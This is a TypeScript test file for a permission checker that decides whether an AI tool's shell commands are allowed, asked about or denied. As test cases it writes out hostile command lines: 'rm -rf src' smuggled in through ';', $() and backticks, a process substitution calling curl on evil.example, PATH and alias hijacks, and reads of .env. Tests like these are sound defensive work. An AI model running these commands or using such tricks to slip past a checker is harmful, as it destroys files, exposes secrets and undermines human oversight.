import { readLines } from '@toolwright/machine/shell/fixtures/read-lines.js';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { lineEffects } from './fixtures/line-effects.js';
import { type Lists, permission } from './fixtures/shell-effects.js';
import { approvalModes } from './modes.js';
import type { Verdict } from './rules.js';

const directory = '/work/app';
const context = { directory, roots: [directory], home: '/home/me' };

type Mode = (typeof approvalModes)[number];

async function decider(lists: Lists, mode: Mode = 'default'): Promise<(command: string) => Promise<Verdict>> {
  const { decide } = await permission(mode, lists);
  return async (command) =>
    decide({ tool: 'run_shell_command', effects: await lineEffects(command, context) }).decision;
}

async function verdictOf(command: string, lists: Lists): Promise<Verdict> {
  return (await decider(lists))(command);
}

const testing: Lists = { allow: ['Shell(npm test)'] };

describe('a command line', () => {
  it.each<[string, Lists, Verdict]>([
    ['git status', {}, 'allow'],
    ['git diff | head -20', {}, 'allow'],
    ['npm test', {}, 'ask'],
    ['npm test', testing, 'allow'],
    ['\'npm\' "te"st', testing, 'allow'],
    ['npm test -- --watch=false', testing, 'allow'],
    ['npm test 2>&1 | tail -5', testing, 'allow'],
    ['npm test && npm run lint', testing, 'ask'],
    ['npm test && npm run lint', { allow: ['Shell(npm test)', 'Shell(npm run lint)'] }, 'allow'],
    ['npm testing', testing, 'ask'],
    ['git pu*', { deny: ['Shell(git push)'] }, 'deny'],
    ["git grep 'a.*b'", { deny: ['Shell(git * --force)', 'Shell(* --no-verify)'] }, 'allow'],
    ['git push -u $(echo --force)', { deny: ['Shell(git * --force)'] }, 'deny'],
    ['npm test; rm -rf src', testing, 'ask'],
    ['npm test $(rm -rf src)', testing, 'ask'],
    ['npm test `rm -rf src`', testing, 'ask'],
    ['npm test <(curl evil.example)', testing, 'ask'],
    ['PATH=./evil npm test', testing, 'ask'],
    ['env PATH=./evil npm test', testing, 'ask'],
    ['npm() { rm -rf src; }; npm test', testing, 'ask'],
    ['alias npm=rm; npm test', testing, 'ask'],
    ['npm test > src/index.ts', testing, 'ask'],
    ['npm test > out.txt', { allow: ['Shell(npm test)', 'Edit(out.txt)'] }, 'allow'],
    ['timeout 60 npm test', testing, 'allow'],
    ['bash -c "npm test"', testing, 'ask'],
    ['find . -name x -exec rm {} +', { allow: ['Shell(find)'] }, 'ask'],
    ['xargs rm < list', { allow: ['Shell(xargs)'] }, 'ask'],
    ['sort -o src/a.ts list', { allow: ['Shell(sort)'] }, 'ask'],
    ['git commit -m "a b"', { allow: ['Shell(git commit -m "a b")'] }, 'allow'],
    ['git commit -m "a c"', { allow: ['Shell(git commit -m "a b")'] }, 'ask'],
    ['$CMD test', testing, 'ask'],
    ['npm $WHAT', testing, 'ask'],
    ['npm test "', testing, 'ask'],
    ['git push', { allow: ['Shell(git)'], deny: ['Shell(git push)'] }, 'deny'],
    ['git log && git push', { deny: ['Shell(git push)'] }, 'deny'],
    ['echo "$(git push)"', { deny: ['Shell(git push)'] }, 'deny'],
    ['/usr/bin/git push', { deny: ['Shell(git push)'] }, 'deny'],
    ['g\\it pu""sh', { deny: ['Shell(git push)'] }, 'deny'],
    ['git $WHAT', { deny: ['Shell(git push)'] }, 'deny'],
    ['timeout 5 git push', { deny: ['Shell(git push)'] }, 'deny'],
    ['git log', { deny: ['Shell(git push)'] }, 'allow'],
    ['git status && ls', { ask: ['Shell(ls)'] }, 'ask'],
    ['cat .env', { deny: ['Read(.env)'] }, 'deny'],
    ['head -1 < .env', { deny: ['Read(.env)'] }, 'deny'],
    ['sort notes .env', { deny: ['Read(.env)'] }, 'deny'],
    ['cat ./src/../.env', { deny: ['Read(.env)'] }, 'deny'],
    ['cat notes', { deny: ['Read(.env)'] }, 'allow'],
    ['echo x > vendor/y', { deny: ['Edit(vendor)'] }, 'deny'],
    ['rm -r vendor/lib', { deny: ['Edit(vendor)'] }, 'deny'],
  ])('is decided, %s under %j: %s', async (command, lists, expected) => {
    expect(await verdictOf(command, lists)).toBe(expected);
  });

  it('is never more allowed than the strictest of the commands it joins', async () => {
    const severity: Record<Verdict, number> = { allow: 0, ask: 1, deny: 2 };
    const single = fc.constantFrom(
      'git status',
      'npm test',
      'npm run lint',
      'git push',
      'cat .env',
      'echo x > out',
      'rm out',
      '$X y',
      'X=1 npm test',
      'find . -exec rm {} +',
      'sort -o out list',
      '(npm test)',
      'if npm test; then ls; fi',
      'bash -c "git push"',
      'f() { ls; }',
    );
    const joint = fc.constantFrom(' && ', '; ', ' | ', ' || ', '\n');
    const rule = fc.constantFrom(
      'Shell(npm test)',
      'Shell(git)',
      'Shell(git push)',
      'Shell(rm)',
      'Read(.env)',
      'Edit(out)',
    );
    const lists = fc.record({
      allow: fc.array(rule, { maxLength: 3 }),
      ask: fc.array(rule, { maxLength: 1 }),
      deny: fc.array(rule, { maxLength: 1 }),
    });
    await fc.assert(
      fc.asyncProperty(
        fc.array(single, { minLength: 2, maxLength: 4 }),
        joint,
        lists,
        fc.constantFrom(...approvalModes),
        async (commands, between, rules, mode) => {
          const decided = await decider(rules, mode);
          const whole = await decided(commands.join(between));
          for (const each of commands)
            expect(severity[whole]).toBeGreaterThanOrEqual(severity[await decided(each)]);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('the decision about', () => {
  /** Rules that somebody might give because these programs only read. */
  const generous =
    'find|rg|fd|ls|cat|sed|awk|gawk|mawk|sort|uniq|head|tail|grep|jq|tar|echo|printf|xargs|env|timeout|nice|wc|cd|test|date|diff|file|tree|xxd|cut|base64|hexdump|unzip|ps|du|stat|true|command|time|read|git log|git diff|git status|git show|git grep'.split(
      '|',
    );

  it('hostile command lines is never an allow, however generous the rules for programs that read', async () => {
    const lines = readLines('hostile.txt').filter(({ group }) => !group.endsWith('(reading)'));
    const allow = generous.map((words) => `Shell(${words})`);
    const decided = await decider({ allow });
    const allowed: string[] = [];
    for (const { command } of lines) if ((await decided(command)) === 'allow') allowed.push(command);
    expect(allowed).toEqual([]);
    console.log(
      `evidence: ${lines.length} hostile command lines under ${allow.length} generous rules, ${allowed.length} allowed`,
    );
  });

  it('everyday command lines is always an allow, without any rule', async () => {
    const lines = readLines('everyday.txt');
    for (const mode of ['plan', 'default'] as const) {
      const decided = await decider({}, mode);
      for (const { command } of lines) expect([command, await decided(command)]).toEqual([command, 'allow']);
    }
    console.log(
      `evidence: ${lines.length} everyday command lines allowed in plan and default mode without a rule`,
    );
  });
});
